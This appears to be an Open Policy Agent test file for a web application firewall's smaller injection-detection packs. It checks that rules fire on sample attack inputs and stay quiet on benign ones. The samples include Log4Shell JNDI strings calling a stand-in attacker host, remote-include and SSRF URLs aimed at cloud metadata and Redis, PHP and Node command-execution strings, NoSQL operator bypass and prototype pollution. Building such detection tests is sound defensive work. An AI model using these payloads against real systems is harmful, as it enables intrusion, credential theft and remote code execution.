# METADATA
# title: Tests of the smaller injection packs
# description: rfi, ssrf, jndi, java, php, nosql, node, scanner and session packs.
package lambda_firewall.injection_test.misc

import data.lambda_firewall
import data.lambda_firewall.testing as t

fires(pack, id, inp) if {
	ids := {f.id | some f in lambda_firewall.injection_findings; startswith(f.id, sprintf("%s-", [pack]))} with input as inp
	id in ids
}

test_rfi_001_ip_host if fires("rfi", "rfi-001", t.query("src", "http://66.240.183.75/crash.php"))

test_rfi_002_include_param if fires("rfi", "rfi-002", t.query("include_path", "https://evil.example/shell.txt"))

test_rfi_plain_link_is_clean if not fires("rfi", "rfi-002", t.query("next", "https://example.com/welcome"))

test_ssrf_001_metadata_ip if fires("ssrf", "ssrf-001", t.json_body({"webhook": "http://169.254.169.254/latest/meta-data/"}))

test_ssrf_001_decimal_ip if fires("ssrf", "ssrf-001", t.query("url", "http://2852039166/"))

test_ssrf_001_ipv6_metadata if fires("ssrf", "ssrf-001", t.query("url", "http://[fd00:ec2::254]/latest/"))

test_ssrf_002_gopher if fires("ssrf", "ssrf-002", t.query("url", "gopher://127.0.0.1:6379/_INFO"))

test_ssrf_003_localhost if fires("ssrf", "ssrf-003", t.query("url", "http://localhost:8080/admin"))

test_ssrf_public_url_is_clean if not fires("ssrf", "ssrf-001", t.query("url", "https://example.com/a"))

test_jndi_001_plain if fires("jndi", "jndi-001", t.header("user-agent", "${jndi:ldap://evil.example/a}"))

test_jndi_001_nested if fires("jndi", "jndi-001", t.header("x-api-version", "${${lower:j}ndi:${lower:l}dap://x/a}"))

test_jndi_template_is_clean if not fires("jndi", "jndi-001", t.json_body({"greeting": "Hello {name}!"}))

test_java_001_class if fires("java", "java-001", t.form_body({"test": ["java.lang.Runtime"]}))

test_java_002_serialized if fires("java", "java-002", t.text_body("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA"))

test_java_003_ognl if fires("java", "java-003", t.header("content-type", "%{(#_memberAccess['allowStaticMethodAccess']=true)}"))

test_java_004_jsp_upload if fires("java", "java-004", t.header("x-filename", "shell.jsp"))

test_php_001_wrapper if fires("php", "php-001", t.query("file", "php://filter/convert.base64-encode/resource=index.php"))

test_php_002_function if fires("php", "php-002", t.query("x", "system('id')"))

test_php_003_superglobal if fires("php", "php-003", t.query("x", "$_SERVER['HTTP_HOST']"))

test_php_004_object if fires("php", "php-004", t.query("x", `O:8:"stdClass":0:{}`))

test_php_price_is_clean if not fires("php", "php-003", t.json_body({"note": "It costs $5 (five dollars)."}))

test_nosql_001_operator_key if fires("nosql", "nosql-001", t.json_body({"user": "admin", "password": {"$ne": null}}))

test_nosql_001_bracket_key if fires("nosql", "nosql-001", t.query("user[$ne]", "x"))

test_nosql_dollar_value_is_clean if not fires("nosql", "nosql-001", t.json_body({"price": "$ne"}))

test_node_001_child_process if fires("node", "node-001", t.json_body({"x": "require('child_process').exec('id')"}))

test_node_002_proto_key if fires("node", "node-002", t.json_body({"__proto__": {"admin": true}}))

test_node_code_snippet_is_clean if not fires("node", "node-001", t.json_body({"md": "```js\nconst total = items.reduce((a, b) => a + b, 0);\n```"}))

test_scanner_001_sqlmap if fires("scanner", "scanner-001", t.header("user-agent", "sqlmap/1.8#stable (https://sqlmap.org)"))

test_scanner_browser_is_clean if not fires("scanner", "scanner-001", t.header("user-agent", "Mozilla/5.0 (X11; Linux x86_64)"))

test_session_001_param if fires("session", "session-001", t.query("jsessionid", "74B0CB414BD77D17"))

test_session_002_cookie_script if fires("session", "session-002", t.query("q", "<script>document.cookie=\"sid=1; domain=.example\"</script>"))
